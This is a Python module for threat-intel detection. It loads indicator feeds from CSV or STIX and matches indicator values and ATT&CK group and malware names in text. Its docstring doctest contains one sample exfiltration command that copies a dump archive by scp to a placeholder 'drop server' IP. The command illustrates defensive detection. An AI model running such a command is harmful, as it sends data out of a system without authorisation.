"""Threat-intel signals: ATT&CK group and software names, and user indicator feeds.

``NameMatcher`` finds the catalog's groups, malware and tools (names and
aliases) in text. ``load_intel`` reads an indicator feed: a CSV with an
``indicator`` (or ``value``) column and optional ``type`` and ``description``
columns, or a STIX 2.1 bundle whose ``indicator`` objects carry simple
``[type:property = 'value']`` patterns.

>>> feed = IntelFeed((Indicator("203.0.113.77", "ipv4-addr", "drop server"),))
>>> [i.value for i in feed.match("scp dump.tgz root@203.0.113.77:/x")]
['203.0.113.77']
"""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any

from llmnav.errors import ConfigError, SourceLocation

if TYPE_CHECKING:
    from llmnav.catalog import Catalog
    from llmnav.scoring.config import AriesConfig

__all__ = ["Indicator", "IntelFeed", "NameHit", "NameMatcher", "load_intel"]


@dataclass(frozen=True, slots=True)
class Indicator:
    """One indicator: its value, STIX type (``ipv4-addr``, ``domain-name``, ``file``...), label."""

    value: str
    kind: str = ""
    label: str = ""


@dataclass(frozen=True, slots=True)
class IntelFeed:
    """Indicators to look for in actors' text, tool inputs and tool results."""

    indicators: tuple[Indicator, ...] = ()

    def match(self, text: str) -> list[Indicator]:
        """The indicators found in ``text`` (case-insensitive, not inside a longer token)."""
        if not self.indicators or not text:
            return []
        folded = text.casefold()
        found = []
        for indicator in self.indicators:
            value = indicator.value.casefold()
            start = folded.find(value)
            while start >= 0:
                before = folded[start - 1] if start else " "
                end = start + len(value)
                after = folded[end] if end < len(folded) else " "
                if not _token_char(before) and not _token_char(after):
                    found.append(indicator)
                    break
                start = folded.find(value, start + 1)
        return found


def _token_char(char: str) -> bool:
    return char.isalnum() or char in "_-"


_STIX_COMPARISON = re.compile(r"([a-z0-9-]+):([\w.'-]+)\s*=\s*'((?:[^'\\]|\\.)*)'")


def load_intel(path: str | Path) -> IntelFeed:
    """Read an indicator feed (CSV, or STIX 2.1 JSON bundle) from ``path``.

    Raises:
        ConfigError: the file cannot be read or holds no usable indicator; the
            message names the file and, for CSV, what column is missing.
    """
    file = Path(path)
    try:
        text = file.read_text(encoding="utf-8")
    except OSError as exc:
        raise ConfigError(
            f"Cannot read intel file: {exc.strerror}", location=SourceLocation(str(file))
        ) from exc
    stripped = text.lstrip()
    if stripped.startswith("{") or stripped.startswith("["):
        indicators = _from_stix(text, file)
    else:
        indicators = _from_csv(text, file)
    if not indicators:
        raise ConfigError(
            "Intel file holds no indicators (expected a CSV with an `indicator` column "
            "or a STIX 2.1 bundle of indicator objects)",
            location=SourceLocation(str(file)),
        )
    unique = dict.fromkeys(i for i in indicators if i.value.strip())
    return IntelFeed(tuple(unique))


def _from_csv(text: str, file: Path) -> list[Indicator]:
    rows = csv.DictReader(text.splitlines())
    fields = {name.strip().casefold(): name for name in rows.fieldnames or ()}
    column = fields.get("indicator") or fields.get("value")
    if column is None:
        raise ConfigError(
            "Intel CSV needs an `indicator` (or `value`) column; found "
            + (", ".join(fields) or "no header"),
            location=SourceLocation(str(file), 1),
        )
    kind, label = fields.get("type"), fields.get("description") or fields.get("name")
    return [
        Indicator(
            (row.get(column) or "").strip(),
            (row.get(kind) or "").strip() if kind else "",
            (row.get(label) or "").strip() if label else "",
        )
        for row in rows
    ]


def _from_stix(text: str, file: Path) -> list[Indicator]:
    try:
        data: Any = json.loads(text)
    except json.JSONDecodeError as exc:
        raise ConfigError(
            f"Intel file is not valid JSON: {exc.msg}",
            location=SourceLocation(str(file), exc.lineno),
        ) from exc
    objects = data.get("objects", []) if isinstance(data, dict) else data
    found = []
    for obj in objects if isinstance(objects, list) else []:
        if not isinstance(obj, dict) or obj.get("type") != "indicator":
            continue
        label = str(obj.get("name") or obj.get("description") or obj.get("id") or "")
        for kind, _prop, value in _STIX_COMPARISON.findall(str(obj.get("pattern", ""))):
            found.append(Indicator(value.replace("\\'", "'"), kind, label))
    return found


@dataclass(frozen=True, slots=True)
class NameHit:
    """A catalog entity named in text: ``kind`` is ``group``, ``malware`` or ``tool``."""

    entity_id: str
    name: str
    kind: str
    matched: str


class NameMatcher:
    """Finds ATT&CK group and software names and aliases in text, as whole words.

    Names shorter than 4 characters and those in ``aries.threat.ignore_names``
    (everyday words, built-in system utilities) are skipped.
    """

    def __init__(self, entries: Iterable[tuple[str, NameHit]]) -> None:
        # A dictionary of word sequences, not one big regular expression: a
        # thousand-name alternation costs about a millisecond per action.
        self._by_name: dict[str, NameHit] = {}
        for name, hit in entries:
            key = " ".join(_words(name))
            if key:
                self._by_name.setdefault(key, hit)
        self._longest = max((k.count(" ") + 1 for k in self._by_name), default=1)

    @classmethod
    def from_catalog(cls, catalog: Catalog, config: AriesConfig) -> NameMatcher:
        ignored = {n.casefold() for n in config.threat.ignore_names}
        entries: list[tuple[str, NameHit]] = []
        for group in catalog.groups():
            for name in (group.name, *group.aliases):
                entries.append((name, NameHit(group.id, group.name, "group", name)))
        for soft in catalog.all_software():
            for name in (soft.name, *soft.aliases):
                entries.append((name, NameHit(soft.id, soft.name, soft.type, name)))
        usable = [
            (n, h)
            for n, h in entries
            if len(n) >= 4
            and n.casefold() not in ignored
            and n.casefold().removesuffix(".exe") not in ignored
        ]
        return cls(usable)

    def find(self, text: str) -> list[NameHit]:
        """Entities named in ``text``, each once, in order of first mention."""
        words = _words(text)
        found: dict[str, NameHit] = {}
        for start in range(len(words)):
            for size in range(1, min(self._longest, len(words) - start) + 1):
                hit = self._by_name.get(" ".join(words[start : start + size]))
                if hit is not None:
                    found.setdefault(hit.entity_id, hit)
        return list(found.values())


_WORD = re.compile(r"[\w][\w.-]*")


def _words(text: str) -> list[str]:
    """Lower-case words of ``text``; trailing dots and dashes (sentence ends), ``.exe`` dropped."""
    return [w.rstrip(".-").removesuffix(".exe") for w in _WORD.findall(text.casefold())]
